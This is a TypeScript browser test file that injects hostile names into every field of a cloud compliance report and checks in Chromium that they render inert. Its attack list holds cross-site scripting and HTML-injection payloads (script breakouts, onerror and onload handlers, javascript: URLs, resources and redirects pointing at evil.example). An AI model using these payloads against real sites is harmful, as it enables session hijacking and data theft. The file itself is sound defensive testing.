import fc from 'fast-check';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ReportDocument } from '../../../lib/report/document.ts';
import { documentOf, exceptionOf, findingOf, policyOf } from '../../support/document.ts';
import { hostileNames } from '../../trust/untrusted-names.ts';
import { hostileDocument } from '../hostile.ts';
import { hostileFigures } from '../html-figures.ts';
import { isInstalled, openPage, startChromium } from './chromium.ts';
import { pageOf } from './sample.ts';

/** What somebody would call a Droplet to take over the page of whoever looks at the report. */
const attacks = [
  '</script><script>alert(1)</script>',
  '</style><style>@import "//evil.example/x.css";</style>',
  '<img src=//evil.example/x.png onerror=alert(1)>',
  '"><svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>',
  "' onmouseover='alert(1)' style='background:url(//evil.example)'",
  '<!--<script>',
  '--><script>alert(1)</script>',
  ']]></text></svg><iframe src=javascript:alert(1)>',
  '<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><button id=reset>x</button><input id=search>',
  '<link rel=stylesheet href=//evil.example/x.css><object data=//evil.example>',
  '{a|rich} {value} {c} %{x}',
  "$& $1 $` $'",
  'url(#p0);fill:red',
  '</textarea></title></noscript><template>',
];

/** A report in which a text stands wherever a text may stand. */
function calledBy(text: string): ReportDocument {
  const policy = { ...policyOf(text, { fail: 1 }), title: text, owner: text, controls: [text] };
  const finding = findingOf({
    policy: text,
    rule: text,
    kind: text,
    message: text,
    facts: { [text]: text, list: [text, { [text]: text }] },
    limit: { [text]: text },
    exception: exceptionOf({ id: text, reason: text, owner: text, ticket: text }),
    consoleUrl: 'javascript:alert(1)',
    subject: { id: text, name: text, region: text },
  });
  return documentOf({
    complete: false,
    account: { id: text, name: text, email: text },
    gaps: [{ endpoint: text, reason: text, affects: [text] }],
    policies: [policy],
    controls: [
      {
        framework: text,
        title: text,
        controls: [
          { id: text, title: text, status: 'met', policies: [text], tally: policy.tally, findings: 1 },
        ],
      },
    ],
    findings: [finding],
    policyFiles: [{ file: text, content: `${text}\n${text}` }],
  });
}

describe.skipIf(!isInstalled)('hostile names in Chromium', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await startChromium();
  });
  afterAll(() => browser?.close());

  /** Opens, searches and unfolds everything, and tells what the page did that it should not. */
  async function use(document: ReportDocument): Promise<string[]> {
    const { page, misdeeds } = await openPage(browser, pageOf(document));
    const before = await page.locator('script, style, iframe, object, base, form, img, animate').count();
    if (document.findings.length > 0) {
      await page.locator('#search').fill('e');
      await page.locator('#search').fill('');
      for (const summary of await page.locator('.rows summary').all()) await summary.dispatchEvent('click');
    }
    const after = await page.locator('script, style, iframe, object, base, form, img, animate').count();
    const links = await page
      .locator('.body a')
      .evaluateAll((all) => all.map((link) => String((link as { href?: string }).href)));
    const strange = links.filter((href) => !href.startsWith('https://cloud.digitalocean.com/'));
    await page.waitForTimeout(20);
    await page.context().close();
    const own = document.findings.length > 0 ? 3 : 1;
    return [
      ...misdeeds,
      ...strange,
      ...(before === own && after === own ? [] : [`${before}, ${after} elements`]),
    ];
  }

  it.each(attacks)('are shown and not obeyed: %s', async (text) => {
    expect(await use(calledBy(text))).toEqual([]);
  });

  it('are inert, whatever else they are', async () => {
    for (const { text } of hostileNames) expect(await use(calledBy(text)), text.slice(0, 50)).toEqual([]);
  }, 120_000);

  it('are inert in pictures too', async () => {
    const documents = fc.sample(fc.tuple(hostileDocument, hostileFigures), { numRuns: 12, seed: 7 });
    for (const [document, figures] of documents) expect(await use({ ...document, figures })).toEqual([]);
  }, 120_000);

  it('would be told: a page that obeys them is noticed', async () => {
    const { misdeeds, page } = await openPage(
      browser,
      '<img src="//evil.example/x.png"><script>console.log(1)</script>',
    );
    await page.context().close();
    expect(misdeeds).toEqual(expect.arrayContaining(['request: http://evil.example/x.png', 'log: 1']));
  });
});
